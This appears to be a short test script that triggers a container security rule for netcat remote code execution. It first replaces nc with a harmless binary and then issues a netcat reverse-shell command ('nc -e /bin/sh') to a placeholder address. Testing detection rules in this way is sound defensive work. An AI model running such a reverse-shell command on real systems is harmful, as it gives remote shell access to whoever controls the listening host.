# rule: Netcat Remote Code Execution in Container
# title: netcat is to hand out a shell
cp /bin/true /usr/local/bin/nc; nc -e /bin/sh 192.0.2.1 1
